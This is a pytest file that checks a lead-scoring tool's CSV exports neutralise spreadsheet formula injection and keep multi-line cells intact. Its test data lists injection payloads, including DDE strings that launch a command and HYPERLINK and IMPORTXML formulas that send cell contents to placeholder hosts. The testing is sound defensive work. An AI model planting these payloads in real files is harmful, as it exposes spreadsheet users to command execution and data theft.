"""Scored lists are safe to open in a spreadsheet (issue 12, findings 2 and 3).

A lead list with formula payloads in its cells and header, and cells holding carriage
returns, is scored by the CLI (``score -o``) and by the writer behind the app's download; the
file read back has one row per lead, every formula-like cell shows as text, plain numbers
stay numbers, and nothing typed is lost.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from workbook.cli import main
from workbook.files import load_model_file
from workbook.files.cells import is_formula_like, neutralise
from workbook.leads import read_lead_list, score_leads
from workbook.leads.output import scored_csv
from workbook.leads.synthetic import generate_leads

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"y")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1,2)",
    "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "@A1", "=", "+", "-", "@",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "-=1", "+=1", "==1",
]
PLAIN_NUMBERS = ["-5", "+7", "-1.5", "+2e3", "-.5"]
LINE_BREAKS = ["first\rsecond", "a\r\nb", "x\ny", "\r", "end\r"]
MODEL = "scenarios/sales_automation.yaml"


@pytest.fixture
def hostile_list(tmp_path) -> tuple[str, pd.DataFrame]:
    model = load_model_file(MODEL).model
    leads = generate_leads(model, 15, seed=5)
    notes = (DANGEROUS + PLAIN_NUMBERS + LINE_BREAKS) * 2
    leads["=HYPERLINK(\"http://x\",\"header\")"] = pd.array(notes[: len(leads)], dtype="str")
    leads["Notes"] = pd.array(notes[len(leads): 2 * len(leads)], dtype="str")
    path = tmp_path / "leads.csv"
    leads.to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    return str(path), leads


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(text: str, leads: pd.DataFrame) -> None:
    rows = rows_of(text)
    assert len(rows) == len(leads) + 1  # no lead split by a line break
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell
    header = rows[0]
    assert neutralise("=HYPERLINK(\"http://x\",\"header\")") in header
    notes = [r[header.index("Notes")] for r in rows[1:]]
    expected = [neutralise(x) for x in leads["Notes"]]
    assert notes == expected  # the text is kept, with a leading ' only where it was formula-like
    for number in PLAIN_NUMBERS:
        assert number in notes or number not in list(leads["Notes"])


def test_cli_score_output_is_safe(hostile_list, tmp_path, capsys):
    path, leads = hostile_list
    out = tmp_path / "scored.csv"
    assert main(["score", MODEL, path, "-o", str(out)]) == 0
    capsys.readouterr()
    assert_safe(out.read_bytes().decode("utf-8"), leads)


def test_download_writer_is_safe(hostile_list):
    path, leads = hostile_list
    model = load_model_file(MODEL).model
    scored = score_leads(model, read_lead_list(path).frame)
    assert_safe(scored_csv(scored.frame), leads)


def test_every_dangerous_cell_is_neutralised_and_numbers_are_not():
    assert all(neutralise(x).startswith("'") for x in DANGEROUS)
    assert [neutralise(x) for x in PLAIN_NUMBERS] == PLAIN_NUMBERS
    assert neutralise("plain text") == "plain text"
